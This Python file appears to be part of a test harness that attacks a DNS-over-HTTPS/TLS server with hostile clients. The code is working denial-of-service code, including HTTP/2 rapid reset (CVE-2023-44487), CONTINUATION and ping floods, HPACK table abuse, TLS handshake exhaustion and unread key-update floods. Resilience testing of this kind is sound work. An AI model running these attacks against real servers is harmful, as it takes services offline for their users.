"""Hostile clients of DoH, and what a client of DoT can do with TLS alone."""
import asyncio
import contextlib
import ctypes
import ssl
import struct

import octets
from clients import kind, read_in_background, trusting
from octets import frame, get, query

# --- clients that read nothing -----------------------------------------------------------------------------------------


@kind
async def https_deaf(client):
    """A hundred requests for large replies; the window of each is large, but nothing is read from the connection."""
    async with client.tls("h2", deaf=True) as tls:
        await tls.send(octets.PREFACE + octets.settings(window=1 << 30) + frame(octets.WINDOW_UPDATE, payload=struct.pack("!I", 1 << 30)))
        await tls.send(b"".join(get(1 + 2 * at, query()) for at in range(100)))
        await tls.closed()


@kind
async def https_no_window(client):
    """A hundred requests for large replies, read, but without a window for a single octet of them."""
    async with client.tls("h2") as tls:
        await tls.send(octets.PREFACE + octets.settings(window=0))
        await tls.send(b"".join(get(1 + 2 * at, query()) for at in range(100)))
        while True:
            await tls.read()


# --- floods ------------------------------------------------------------------------------------------------------------


async def flood(client, frames):
    """The same frames again and again; `frames` is a function of the turn."""
    async with client.tls("h2") as tls, read_in_background(tls):
        await tls.send(octets.PREFACE + octets.settings())
        turn = 0
        while True:
            await tls.send(b"".join(frames(turn * 20 + at) for at in range(20)))
            turn += 1
            client.siege.counts["turns"] += 20
            await asyncio.sleep(0.002)


@kind
async def https_queries(client):
    """Ordinary queries, twenty at a time: what the others are compared with."""
    async with client.tls("h2") as tls:
        await tls.send(octets.PREFACE + octets.settings())
        turn, got = 0, b""
        while True:
            await tls.send(b"".join(get(1 + 2 * (turn + at), query("www.svc.example.", "A")) for at in range(20)))
            turn, left = turn + 20, 20
            while left:
                got += await tls.read()
                ended, got = octets.ended_streams(got)
                left -= ended
            client.siege.counts["turns"] += 20


@kind
async def https_reset(client):
    """Rapid reset: each request is cancelled at once (CVE-2023-44487)."""

    def both(turn):
        return get(1 + 2 * turn, query()) + frame(octets.RST_STREAM, 0, 1 + 2 * turn, struct.pack("!I", 8))

    await flood(client, both)


@kind
async def https_pings(client):
    await flood(client, lambda turn: frame(octets.PING, payload=bytes(8)))


@kind
async def https_settings(client):
    await flood(client, lambda turn: octets.settings(table=turn % 4096))


@kind
async def https_continuation(client):
    """A header block without end (CVE-2024-27316)."""
    first = frame(octets.HEADERS, octets.END_STREAM, 1, octets.get_fields(query()))
    more = octets.literal(0, b"x", b"y" * 1000) * 10
    await flood(client, lambda turn: first if turn == 0 else frame(octets.CONTINUATION, 0, 1, more))


@kind
async def https_body(client):
    """Bodies without end on a hundred streams of a connection."""
    post = octets.literal(4, b"", b"/dns-query") + octets.literal(1, b"", b"ns1.example") + octets.literal(0, b"content-type", b"application/dns-message")
    async with client.tls("h2") as tls, read_in_background(tls):
        await tls.send(octets.PREFACE + octets.settings())
        streams = range(1, 201, 2)
        await tls.send(b"".join(frame(octets.HEADERS, octets.END_HEADERS, stream, b"\x83\x87" + post) for stream in streams))
        while True:
            for stream in streams:
                await tls.send(frame(octets.DATA, 0, stream, bytes(1000)))
                client.siege.counts["turns"] += 1
            await asyncio.sleep(0.002)


@kind
async def https_large_head(client):
    """Many fields in each request."""
    more = octets.literal(0, b"x", b"y" * 1000) * 14
    await flood(client, lambda turn: frame(octets.HEADERS, 5, 1 + 2 * turn, octets.get_fields(query("www.svc.example.", "A"), more)))


@kind
async def https_fields(client):
    """Paths that go to HTTP/2's table (HPACK), with a long frame of a kind that is ignored after each: the library has each path
    with the buffer that it came in. With `huffman` they have Huffman code, with a long text that does not go to the table."""
    spec = client.siege.spec
    async with client.tls("h2") as tls, read_in_background(tls):
        await tls.send(octets.PREFACE + octets.settings())
        for turn in range(spec.get("fields", 124)):
            if spec.get("huffman"):
                # "/0": 011000 00000 and ones. "0" in Huffman code has five bits: 00000.
                path, more = b"\x44\x82\x60\x1f", b"\x00\x01x" + b"\xff\xcf\x08" + bytes(1230)
            else:
                path, more = b"\x44\x02/" + bytes([97 + turn % 26]), b""
            block = b"\x82\x87" + path + octets.literal(1, b"", b"ns1.example") + more
            sent = frame(octets.HEADERS, octets.END_STREAM | octets.END_HEADERS, 1 + 2 * turn, block)
            await tls.send(sent + (b"" if spec.get("huffman") else frame(0xBE, 0, 0, bytes(16_384))))
            client.siege.counts["turns"] += 1
            await asyncio.sleep(0.005)
        await tls.closed()


@kind
async def hellos(client):
    """The first message of a handshake, whose reply costs the server a signature; the reply is awaited, then the next comes."""
    outgoing = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        trusting("dot").wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="ns1.example").do_handshake()
    hello = outgoing.read()
    while True:
        with contextlib.suppress(OSError):
            async with client.tcp() as tcp:
                await tcp.send(hello)
                await tcp.read()
        client.siege.counts["turns"] += 1
        await asyncio.sleep(0.02)


class OpenSsl:
    """A TLS client that can send key updates, which Python's own can't."""

    def __init__(self):
        self.lib = ctypes.CDLL("libssl.so.3")
        for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
            getattr(self.lib, name).restype = ctypes.c_void_p
        self.lib.SSL_CTX_new.argtypes = [ctypes.c_void_p]
        self.lib.SSL_new.argtypes = [ctypes.c_void_p]
        self.context = self.lib.SSL_CTX_new(self.lib.TLS_client_method())
        for name, more in (("SSL_set_fd", [ctypes.c_int]), ("SSL_connect", []), ("SSL_key_update", [ctypes.c_int]), ("SSL_do_handshake", []), ("SSL_free", []), ("SSL_write", [ctypes.c_char_p, ctypes.c_int])):
            getattr(self.lib, name).argtypes = [ctypes.c_void_p, *more]


@kind
async def key_updates(client):
    """Key updates that request one in return (RFC 8446, 4.6.3), which are never read."""
    await asyncio.to_thread(update_keys, client)


def update_keys(client):
    openssl = OpenSsl()
    with client.socket() as made:
        made.setblocking(True)
        made.settimeout(2)
        made.connect(client.server)
        made.settimeout(None)
        client.siege.counts["opened"] += 1
        tls = openssl.lib.SSL_new(openssl.context)
        openssl.lib.SSL_set_fd(tls, made.fileno())
        try:
            alpn = client.siege.spec.get("alpn", "dot").encode()
            openssl.lib.SSL_set_alpn_protos(ctypes.c_void_p(tls), bytes([len(alpn)]) + alpn, 1 + len(alpn))
            if openssl.lib.SSL_connect(tls) != 1:
                return
            for _ in range(200_000):
                if client.siege.is_over or openssl.lib.SSL_key_update(tls, 1) != 1 or openssl.lib.SSL_do_handshake(tls) != 1:
                    return
                client.siege.counts["turns"] += 1
        finally:
            openssl.lib.SSL_free(tls)
